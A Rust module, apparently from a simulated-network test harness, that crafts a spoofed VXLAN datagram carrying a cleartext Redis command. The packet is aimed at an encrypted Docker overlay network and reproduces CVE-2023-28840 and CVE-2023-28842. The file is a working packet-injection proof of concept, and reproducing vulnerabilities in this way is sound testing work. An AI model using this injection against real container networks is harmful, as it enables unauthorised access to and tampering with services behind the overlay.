//! A third host on the wire: it sends cleartext into a network that is encrypted.

use crate::nodes::wire::Wire;

/// Its address; neither node knows it.
pub(super) const ADDRESS: &str = "192.168.77.66";
const MAC: [u8; 6] = [0x52, 0x54, 0, 0x4d, 0, 0x42];
/// The second node's.
const TO_MAC: [u8; 6] = [0x52, 0x54, 0, 0x4d, 0, 2];
const FROM: [u8; 4] = [192, 168, 77, 66];
const TO: [u8; 4] = [192, 168, 77, 2];
/// What it would like a container to read.
const TEXT: &[u8] = b"HSET ip 10.9.9.9 1000000";

/// Sends a datagram of network `vni` to the second node (CVE-2023-28840, CVE-2023-28842).
pub(super) fn inject(wire: &Wire, vni: u32) {
    wire.inject(1, &datagram(vni));
}

/// VXLAN (RFC 7348, section 5) around a broadcast frame with UDP.
fn datagram(vni: u32) -> Vec<u8> {
    let inner = [
        ethernet([0xff; 6], [0x02, 0x42, 10, 9, 9, 9]).to_vec(),
        udp([10, 9, 9, 9], [10, 255, 255, 255], [40_000, 6379], TEXT),
    ]
    .concat();
    let mut vxlan = vec![0x08, 0, 0, 0];
    vxlan.extend((vni << 8).to_be_bytes());
    vxlan.extend(inner);
    let outer = udp(FROM, TO, [54_321, 4789], &vxlan);
    [ethernet(TO_MAC, MAC).to_vec(), outer].concat()
}

fn ethernet(to: [u8; 6], from: [u8; 6]) -> [u8; 14] {
    let mut header = [0; 14];
    header[..6].copy_from_slice(&to);
    header[6..12].copy_from_slice(&from);
    header[12] = 8;
    header
}

/// IPv4 (RFC 791) and UDP (RFC 768) without a checksum, which it may lack.
fn udp(from: [u8; 4], to: [u8; 4], ports: [u16; 2], payload: &[u8]) -> Vec<u8> {
    let length = |more: usize| {
        u16::try_from(payload.len() + more)
            .unwrap_or(u16::MAX)
            .to_be_bytes()
    };
    let mut packet = vec![0x45, 0];
    packet.extend(length(28));
    packet.extend([0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend(from);
    packet.extend(to);
    let sum = checksum(&packet);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    packet.extend(ports.iter().flat_map(|port| port.to_be_bytes()));
    packet.extend(length(8));
    packet.extend([0, 0]);
    packet.extend(payload);
    packet
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
fn checksum(header: &[u8]) -> u16 {
    let mut sum: u32 = header
        .chunks_exact(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::nodes::frame::{What, what};

    #[test]
    fn datagram_is_one_of_the_network() {
        let frame = datagram(4098);
        assert_eq!(what(&frame), What::Vxlan { vni: 4098 });
        // A header with its checksum in place sums up to nothing.
        assert_eq!(checksum(&frame[14..34]), 0);
        assert_eq!(
            usize::from(frame[16]) * 256 + usize::from(frame[17]),
            frame.len() - 14
        );
    }
}
